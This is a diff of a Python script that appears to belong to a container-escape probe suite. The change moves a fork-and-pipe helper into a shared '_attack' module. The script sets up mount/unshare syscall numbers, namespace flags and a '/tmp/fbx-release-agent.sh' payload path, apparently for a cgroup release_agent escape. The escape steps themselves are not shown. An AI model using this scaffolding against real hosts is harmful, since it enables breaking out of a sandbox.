@@ -2,35 +2,12 @@
 import ctypes
 import os
 
-from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401
+from _attack import ESCAPES, NOTES, en, finish, in_child, libc, sysc  # noqa: F401
 
 import glob  # noqa: E402
 
 SYS_mount, SYS_umount2, SYS_unshare = 165, 166, 272
 CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWCGROUP = 0x10000000, 0x00020000, 0x02000000
-
-
-def in_child(fn):
-    rd, wr = os.pipe()
-    pid = os.fork()
-    if pid == 0:
-        os.close(rd)
-        try:
-            out = fn() or ""
-        except BaseException as e:
-            out = "exception %r" % (e,)
-        os.write(wr, out.encode("utf-8", "replace")[:65000])
-        os._exit(0)
-    os.close(wr)
-    chunks = []
-    while True:
-        d = os.read(rd, 65536)
-        if not d:
-            break
-        chunks.append(d)
-    os.close(rd)
-    os.waitpid(pid, 0)
-    return b"".join(chunks).decode("utf-8", "replace")
 
 
 PAYLOAD = "/tmp/fbx-release-agent.sh"
